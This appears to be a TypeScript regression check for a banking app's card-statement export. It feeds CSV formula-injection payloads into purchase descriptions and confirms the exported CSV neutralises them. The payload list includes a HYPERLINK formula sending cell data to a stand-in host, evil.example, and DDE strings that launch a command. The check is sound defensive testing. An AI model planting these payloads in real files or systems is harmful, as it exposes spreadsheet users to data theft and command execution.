import { randomUUID } from 'node:crypto';
import { send, sendJson } from '../http';
import { outbox } from '../outbox';
import { CheckReport } from '../report';
import { type Sandbox, startInProcess } from '../sandbox';
import { signInAdmin } from '../session';

/*
 * Issue 23, item 4, over real HTTP: card purchases described as spreadsheet formulas, then 'Extrair extrato'.
 * The CSV that lands in the outbox must hold every one of them as text: no cell may start like a formula
 * (`=`, `+`, `-`, `@`, tab or CR), whatever a spreadsheet would make of it.
 */

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1;"Reembolso")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
];

/** Cells of a ';' CSV with "" quoting, as a spreadsheet reads them. */
function cells(csv: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const char = csv[i] ?? '';
    if (quoted && char === '"' && csv[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && (char === ';' || char === '\n')) {
      out.push(cell.replace(/\r$/, ''));
      cell = '';
    } else {
      cell += char;
    }
  }
  return [...out, cell];
}

async function cardStatement(s: Sandbox, report: CheckReport, token: string) {
  const [card] = await s.db.query<{ id: string }>(
    `SELECT c.id FROM cards c JOIN users u ON u.seller_id = c.seller_id AND u.email = 'admin@demo.balcao.dev'
      WHERE c.status = 'ACTIVE' ORDER BY c.id LIMIT 1`,
  );
  if (!card) return report.skip('csv: the seed has no active card for the demo admin');
  for (const description of FORMULAS) {
    const bought = await sendJson(s.url, 'POST', `/_sandbox/cards/${card.id}/purchases`, {
      amount: 1.5,
      description,
    });
    if (bought.status !== 201) return report.skip(`csv: the purchase was refused (${bought.status})`);
  }
  const path = '/banking/v1/banking/card/transactions';
  const sent = await sendJson(
    s.url,
    'POST',
    path,
    { cardId: card.id },
    { bearer: token, headers: { 'idempotency-key': randomUUID() } },
  );
  const input = 'purchases described =HYPERLINK(…), +cmd|…, @SUM(…), -2+3…; Extrair extrato';
  if (sent.status !== 202) {
    report.expect(false, {
      cause: 'the card statement was not sent',
      method: 'POST',
      path,
      input,
      status: sent.status,
    });
    return;
  }
  const [email] = (await outbox(s.url, 'admin@demo.balcao.dev')).slice(-1) as {
    attachments?: { url: string }[];
  }[];
  const url = email?.attachments?.[0]?.url;
  if (!url) {
    report.expect(false, {
      cause: 'the statement e-mail has no CSV',
      method: 'POST',
      path,
      input,
      status: 202,
    });
    return;
  }
  const file = await send(s.url, { method: 'GET', path: new URL(url).pathname });
  const all = cells(file.text.replace(/^\uFEFF/, ''));
  const formulas = all.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-[\d.,]+$/.test(cell));
  report.expect(formulas.length === 0, {
    cause: 'a CSV cell starts like a formula',
    method: 'POST',
    path,
    input,
    status: formulas.slice(0, 2).join(' | ') || 202,
  });
  report.expect(
    FORMULAS.every((formula) => all.some((cell) => cell.includes(formula.slice(1, 12)))),
    {
      cause: 'a described purchase is missing from the statement CSV',
      method: 'POST',
      path,
      input,
      status: 202,
    },
  );
}

export async function csvFormulasCheck(): Promise<CheckReport> {
  const report = new CheckReport('csv formulas');
  const s = await startInProcess();
  try {
    await cardStatement(s, report, await signInAdmin(s.url));
  } finally {
    await s.close();
  }
  return report;
}
